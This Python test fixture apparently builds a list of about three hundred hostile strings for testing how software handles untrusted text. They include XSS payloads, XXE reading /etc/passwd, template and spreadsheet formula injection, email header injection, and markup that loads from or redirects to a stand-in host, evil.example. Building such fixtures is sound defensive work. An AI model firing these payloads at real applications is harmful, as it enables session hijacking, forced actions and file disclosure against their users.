"""Texts that mean harm: markup, scripts, formulas and headers, three hundred of them."""

from itertools import product

BASE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<button hx-get=/profile hx-trigger=load>x</button>",
    "<div data-hx-post=/logout data-hx-trigger=load></div>",
    "<form action=//evil.example><input name=p></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "` onfocus=alert(1)",
    "<!--<img src=x onerror=alert(1)>-->",
    "--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{7*7}}{% for x in y %}",
    "${7*7}#{7*7}",
    "<img src='file:///etc/passwd'>",
    "<pdf:nextpage /><pdf:toc />",
    "@font-face{src:url(file:///etc/passwd)}",
    "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
    "\u202e<script>\u202c",
    '=HYPERLINK("//evil.example";"x")',
    "＝cmd|'/c calc'!A0",
    "\t=1+1",
    "@SUM(1)",
    "Bcc: all@evil.example\r\nX-Evil: 1",
]

#: What ends the place a text stands in.
ENDS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</td></tr></table>",
    "</select></form>",
)
#: What runs, loads, leads away or asks once it stands there as markup.
VECTORS = (
    "<script>alert(2)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(2)>",
    "<video src=x onerror=alert(2)></video>",
    "<audio src=x onerror=alert(2)></audio>",
    "<input autofocus onfocus=alert(2)>",
    "<select autofocus onfocus=alert(2)></select>",
    "<marquee onstart=alert(2)>x</marquee>",
    "<details open ontoggle=alert(2)>",
    "<div style=animation:x onanimationstart=alert(2)>",
    "<iframe src=javascript:alert(2)></iframe>",
    "<object data=javascript:alert(2)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(2)>x</a>",
    "<form action=javascript:alert(2)><button>x</button></form>",
    "<button formaction=//evil.example>x</button>",
    "<button data-hx-get=/logout data-hx-trigger=load>x</button>",
    "<div data-hx-post=/logout data-hx-trigger=load data-hx-target=body></div>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
)

TEXTS = [*BASE, *(end + vector for end, vector in product(ENDS, VECTORS))]


def chunks(most):
    """Return all of the texts in so many pieces of at most so many characters."""
    made = [""]
    for text in TEXTS:
        if len(made[-1]) + 1 + len(text) > most:
            made.append("")
        made[-1] = f"{made[-1]} {text}".strip()
    return made


def folded(text):
    """Return the text as a page shows it: every run of blanks is one."""
    return " ".join(text.split())
